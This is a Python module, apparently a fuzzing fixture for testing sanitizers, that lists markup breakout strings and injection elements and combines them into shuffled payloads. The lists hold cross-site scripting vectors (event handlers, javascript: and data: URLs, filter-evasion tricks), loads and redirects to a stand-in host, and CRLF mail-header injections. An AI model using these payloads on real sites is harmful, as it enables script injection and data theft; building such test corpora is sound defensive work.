"""Words that would be more than words if they were taken for markup: each brings an element, an attribute, an
address of another kind, a comment or a header with MARK in it."""

from random import Random

MARK = "zqx"
BREAKOUTS = (
    "", '"', "'", ">", '">', "'>", "</p>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>",
    "`", "&quot;>",
    "</option></select>", "<!--", "<![CDATA[", "\\", "{{ name }}", "{{", "{%", "\u2028", "&#34;&gt;", "<", "<<",
    "%22%3e",
    "</noscript>", "</svg>", "*/", "\\u0022\\u003e", "＂＞", "\"\t", '" ', "=\"", "[", "![", "](", "`<", "***",
)  # fmt: skip
ELEMENTS = (
    "<zqx1>", "<zqx-a onload=zqx()>", "<script>zqx()</script>", "<script src=//zqx.example></script>",
    "<img src=x onerror=zqx()>", "<svg onload=zqx()>", "<svg/onload=zqx()>", "<iframe src=//zqx.example>",
    "<iframe srcdoc='<script>zqx()</script>'>", "<object data=//zqx.example>", "<embed src=//zqx.example>",
    "<base href=//zqx.example>", "<meta http-equiv=refresh content='0;url=//zqx.example'>",
    "<link rel=stylesheet href=//zqx.example>",
    "<style>@import '//zqx.example'</style>", "<form action=//zqx.example><button>go</button>",
    "<input onfocus=zqx() autofocus>",
    "<body onload=zqx()>", "<details open ontoggle=zqx()>", "<video><source onerror=zqx()>",
    "<math><mtext><zqx>",
    "<math href=javascript:zqx()>", "<a href=javascript:zqx()>x</a>", "<a href='java\tscript:zqx()'>x</a>",
    "<a href=&#106;avascript:zqx()>x</a>", "<a href=data:text/html,zqx>x</a>", "<a href=vbscript:zqx>x</a>",
    "<a onclick=zqx() href=/>x</a>", "<div style=background:url(//zqx.example)>", "<zqx:a xmlns:zqx=b>",
    "<!--zqx-->",
    "<!--[if mso]><zqx><![endif]-->", "<?zqx ?>", "<!zqx>", "<![CDATA[zqx]]>", "<template><zqx></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=zqx()>\">", "<svg><style><img src=x onerror=zqx()>",
    "<zqx/",
    "<svg><a xlink:href=javascript:zqx()>x</a></svg>", "<button formaction=javascript:zqx()>x",
    "<isindex type=image src=1 onerror=zqx()>",
    "<portal src=//zqx.example>", "<textarea autofocus onfocus=zqx()>", "<marquee onstart=zqx()>",
    "<SCRIPT/ZQX>zqx()</SCRIPT>",
    "<scr<script>ipt>zqx()</scr</script>ipt>", "\x00<zqx>", "<\x00zqx>", "＜zqx＞", "<zqx\u00a0a=b>",
    "<img\x0csrc=x\x0conerror=zqx()>",
    " onmouseover=zqx() ", " zqx=1 ", " style=zqx:1 ", " autofocus onfocus=zqx() x=", "[x](javascript:zqx())",
    "[x](<javascript:zqx()>)",
    "![x](javascript:zqx())", "![x](data:text/html,zqx \"1:00\")", "[x](data:text/html;base64,enF4)",
    "<javascript:zqx()>",
    "[x][y]\n\n[y]: javascript:zqx()", "[x](//zqx.example \"\" onclick=zqx())", "[x](JaVaScRiPt:zqx())",
    "[x](java&#10;script:zqx())",
    "`<zqx>`", "```zqx\" onload=zqx()\n<zqx>\n```", "| <zqx> |\n|---|\n| <img src=x onerror=zqx()> |",
    "# <zqx onload=1>",
    "- [ ] <zqx>", "- [ ] <img src=x onerror=zqx()>", "[^<zqx>]: a\n\nb[^<zqx>]", "> [!TIP]<zqx>",
    "%0d%0aX-Zqx:1", "\r\nX-Zqx: 1",
    "\nBcc: zqx@zqx.example", "=?utf-8?q?=0AX-Zqx:_1?=", "\r\n\r\n<zqx>", "&lt;zqx&gt;", "&amp;lt;zqx&amp;gt;",
    "&#60;zqx&#62;",
)  # fmt: skip


def payloads(chance: Random, most: int) -> list[str]:
    """Each way out of what surrounds it before each element; all of the elements are among the first."""
    alone = list(ELEMENTS)
    chance.shuffle(alone)
    mixed = [f"{breakout}{element}" for breakout in BREAKOUTS[1:] for element in ELEMENTS]
    return [*alone, *chance.sample(mixed, len(mixed))][:most]
